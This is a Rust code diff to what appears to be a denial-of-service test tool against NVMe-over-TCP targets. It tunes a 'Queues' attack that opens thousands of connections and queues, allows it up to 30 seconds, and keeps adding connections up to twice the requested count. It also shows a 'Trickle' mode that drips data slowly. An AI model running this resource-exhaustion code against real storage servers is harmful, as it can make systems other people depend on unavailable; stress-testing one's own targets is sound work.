@@ -28,6 +28,9 @@ const STRANGER: &str = raw_tcp::HOST_NQN;
 const ANSWER_PATIENCE: Duration = Duration::from_secs(1);
 const START_PATIENCE: Duration = Duration::from_secs(8);
 
+/// The same for one that makes thousands of queues. None of them is left waiting: who is one too many is ended.
+const QUEUES_PATIENCE: Duration = Duration::from_secs(30);
+
 /// How long it looks on before it makes anew what it has lost, and lets others come.
 const SETTLE: Duration = Duration::from_millis(150);
 
@@ -135,19 +138,14 @@ impl Going {
     /// Returns when it has all its connections, as far as it gets them.
     pub(crate) fn start(attack: Attack, address: SocketAddr) -> Self {
         let begun = Instant::now();
-        let is_early = |_: &usize| begun.elapsed() < START_PATIENCE;
+        let patience = if attack.act == Act::Queues { QUEUES_PATIENCE } else { START_PATIENCE };
+        let is_early = |_: &usize| begun.elapsed() < patience;
         let numbers = (0..attack.count).take_while(is_early);
-        let mut held: Vec<Vec<Held>> = numbers.map(|number| attempt(&attack, number, address)).collect();
+        let held: Vec<Vec<Held>> = numbers.map(|number| attempt(&attack, number, address)).collect();
         let stop = Arc::new(AtomicBool::new(false));
         let stopped = Arc::clone(&stop);
         // The target is busy with what has come so far.
         std::thread::sleep(SETTLE);
-        // A slow target may have ended some before it read their Connect. All controllers are taken when one is refused.
-        let one_is_refused = |held: &mut [Vec<Held>]| held.iter_mut().flatten().any(Held::is_refused);
-        while attack.wants_controllers() && !one_is_refused(&mut held) && begun.elapsed() < START_PATIENCE {
-            attempt_again(&attack, address, &mut held, &stop);
-            std::thread::sleep(SETTLE);
-        }
         let thread = std::thread::spawn(move || go_on(&attack, address, held, &stopped));
         Self { stop, thread: Some(thread) }
     }
@@ -159,6 +157,11 @@ fn go_on(attack: &Attack, address: SocketAddr, mut held: Vec<Vec<Held>>, stop: &
     let mut dripped = Instant::now();
     while !stop.load(Ordering::Relaxed) {
         attempt_again(attack, address, &mut held, stop);
+        let none_is_lost = |held: &mut [Vec<Held>]| !held.iter_mut().flatten().any(Held::is_closed);
+        if attack.act == Act::Queues && held.len() < 2 * attack.count && none_is_lost(&mut held) {
+            // A slow machine has made too few until now.
+            held.push(attempt(attack, held.len(), address));
+        }
         if attack.act == Act::Trickle && dripped.elapsed() > DRIP {
             held.iter_mut().flatten().for_each(|one| one.drip(attack.over));
             dripped = Instant::now();
@@ -344,9 +347,8 @@ fn queues(from: IpAddr, address: SocketAddr) -> Vec<TcpStream> {
     let none = Digests::default();
     let begun = Instant::now();
     let queue = |qid| {
-        // Each may take nearly its time, and all together no longer than one.
-        let left = ANSWER_PATIENCE.checked_sub(begun.elapsed()).filter(|left| !left.is_zero())?;
-        let mut stream = stream_from(from, address, left).ok()?;
+        let left = QUEUES_PATIENCE.checked_sub(begun.elapsed()).filter(|left| !left.is_zero())?;
+        let mut stream = stream_from(from, address, left.min(ANSWER_PATIENCE)).ok()?;
         let said = [ic_req(none), connect_as(none, (qid, 1024, controller), NQN, FRIEND)].concat();
         stream.write_all(&said).ok()?;
         Some(stream)
